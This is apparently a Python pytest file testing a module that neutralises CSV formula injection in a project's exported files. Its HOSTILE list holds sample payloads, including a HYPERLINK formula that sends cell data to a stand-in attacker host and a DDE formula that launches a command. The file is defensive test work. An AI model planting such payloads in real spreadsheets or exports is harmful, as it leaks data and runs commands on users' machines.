"""CSV injection (OWASP): every CSV the workbench writes goes through workbench.csvsafe."""

from __future__ import annotations

import csv
import io
import re

import pytest

from tests.conftest import ROOT
from workbench.csvsafe import SafeDictWriter, SafeWriter, neutralise, restore

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_become_text_and_read_back(cell):
    safe = neutralise(cell)
    assert safe == "'" + cell
    assert restore(safe) == cell


@pytest.mark.parametrize("cell", ["The plant", "", "'quoted", "5 %", "a=b", " =not first"])
def test_ordinary_cells_are_untouched(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def test_numbers_stay_numbers():
    out = io.StringIO()
    SafeWriter(out).writerow([-1, -0.5, 3, "-1"])
    assert out.getvalue().strip() == "-1,-0.5,3,'-1"


def test_writers_neutralise_every_row():
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["a", "b"])
    writer.writeheader()
    writer.writerows([{"a": cell, "b": "ok"} for cell in HOSTILE])
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [row["a"] for row in rows] == ["'" + cell for cell in HOSTILE]


def test_no_csv_is_written_around_csvsafe():
    """Every csv.writer / csv.DictWriter of the code base is csvsafe's own."""
    offenders = []
    for folder in ("workbench", "claims", "sources", "integrations", "scripts", "bench"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "csvsafe.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"\bcsv\.(writer|DictWriter)\b", text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_labels_written_safe_read_back_unchanged(tmp_path):
    from claims.triage.labels import read_labels

    path = tmp_path / "labels.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = SafeWriter(f)
        writer.writerow(["text", "label", "group"])
        writer.writerow(["-5 % is what the minister said.", 1, "a"])
        writer.writerow(["The plant is safe.", 0, "a"])
    assert path.read_text().splitlines()[1].startswith("'-5 %")
    assert [row.text for row in read_labels(path)] == [
        "-5 % is what the minister said.",
        "The plant is safe.",
    ]
